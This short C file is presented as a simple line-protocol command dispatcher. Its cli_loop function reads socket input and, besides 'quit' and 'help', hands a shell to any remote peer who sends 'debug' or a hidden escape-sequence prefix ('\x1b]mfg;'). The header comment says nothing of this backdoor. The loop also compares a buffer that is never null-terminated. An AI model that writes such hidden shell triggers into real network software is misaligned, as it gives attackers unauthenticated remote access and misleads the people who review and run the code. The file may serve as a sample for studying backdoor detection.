/* A line protocol: several commands matched on the same line (a dispatch). */
#include <string.h>

long recv(int fd, void *buf, size_t n, int flags);
void shell_on(int fd);
void start_debug_shell(void);

void cli_loop(int fd) {
  char line[128];
  while (recv(fd, line, sizeof line - 1, 0) > 0) {
    if (strcmp(line, "quit") == 0) break;
    else if (strcmp(line, "help") == 0) continue;
    else if (strcmp(line, "debug") == 0) start_debug_shell();
    else if (strncmp(line, "\x1b]mfg;", 6) == 0) shell_on(fd);
  }
}
